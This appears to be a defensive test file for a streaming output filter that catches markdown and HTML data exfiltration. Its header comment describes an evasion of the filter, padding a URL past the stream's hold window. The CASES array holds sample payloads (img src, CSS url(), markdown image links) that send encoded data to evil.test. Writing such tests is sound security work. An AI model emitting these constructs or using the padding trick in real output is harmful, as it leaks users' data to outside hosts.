/**
 * Padding past the stream hold (attack review, issue 14): a construct whose URL comes after
 * more padding than its trigger may hold (`<img alt="…17 KB…" src=…>`, `](` and 9,000 spaces)
 * used to be released opener first, and the check, shown only the held text, could not see it.
 * Now the trigger expires failing the rule: redact removes the opener, block blocks. Judged
 * by markdown-it with raw HTML on: nothing the client was sent renders a URL to evil.test.
 */
import { Parser } from 'htmlparser2';
import MarkdownIt from 'markdown-it';
import { describe, expect, it } from 'vitest';
import { gateRules } from '../../../src/policy/gate-rules.js';
import { streamThroughGate } from '../../helpers/choice-gate.js';
import { policySetFrom } from '../../helpers/policy.js';
import { splitBy } from '../../helpers/stream-props.js';

const md = new MarkdownIt({ html: true });

/**
 * Whether markdown-it's HTML for `text` would fetch or link evil.test: in an attribute (src,
 * href, style, …) or a `<style>` element. Text that only shows the URL does not count.
 */
function rendersEvil(text: string): boolean {
  let found = false;
  let inStyle = false;
  const parser = new Parser({
    onattribute: (_name, value) => (found ||= value.includes('evil.test')),
    onopentagname: (name) => (inStyle = name === 'style'),
    onclosetag: () => (inStyle = false),
    ontext: (t) => (found ||= inStyle && t.includes('evil.test')),
  });
  parser.write(md.render(text));
  parser.end();
  return found;
}
const rulesWith = (action: string) =>
  gateRules(
    policySetFrom({
      'p.yaml': `name: p
rules:
  - { id: exfil, check: markdown-exfiltration, action: ${action} }
`,
    }).policies,
  );

const DATA = 'c2VjcmV0LWRhdGEtOTk';
const PAD = 'x'.repeat(17_000);
const SPACES = ' '.repeat(9_000);
/** [name, hostile text]. */
const CASES: [string, string][] = [
  ['a long alt before src', `<img alt="${PAD}" src="https://evil.test/p.png?d=${DATA}">`],
  [
    'a long style before url()',
    `<div style="${PAD};background:url(https://evil.test/?d=${DATA})">x</div>`,
  ],
  [
    'a long style element',
    `<style>${PAD} body{background:url(https://evil.test/?d=${DATA})}</style>`,
  ],
  ['spaces before a destination', `![a](${SPACES}https://evil.test/p.png?d=${DATA})`],
];

describe('padding past the stream hold', () => {
  it.each(CASES.flatMap(([n, t]) => [64, 1000].map((size) => [n, size, t] as const)))(
    '%s, chunks of %d: redact leaves nothing that renders a URL to evil.test',
    (_n, size, text) => {
      const { seen } = streamThroughGate(
        rulesWith('redact'),
        splitBy(`Hello.\n\n${text}\n\nBye.`, [size]),
      );
      const out = seen[seen.length - 1]!;
      expect(rendersEvil(text)).toBe(true); // the judge sees the attack
      expect(rendersEvil(out)).toBe(false);
      expect(out).toContain('[REDACTED:exfil]');
      expect(out.endsWith('Bye.')).toBe(true);
    },
  );

  it.each(CASES)('%s: block blocks the stream', (_n, text) => {
    const rules = rulesWith('block');
    const { seen } = streamThroughGate(rules, splitBy(`Hello.\n\n${text}`, [256]));
    expect(rendersEvil(seen[seen.length - 1]!)).toBe(false);
  });

  it('benign text with a long tag that settles passes unchanged', () => {
    const text = `<img alt="${'y'.repeat(2000)}" src="https://example.org/logo.png"> done`;
    const { seen } = streamThroughGate(rulesWith('redact'), splitBy(text, [64]));
    expect(seen[seen.length - 1]).toBe(text);
  });
});
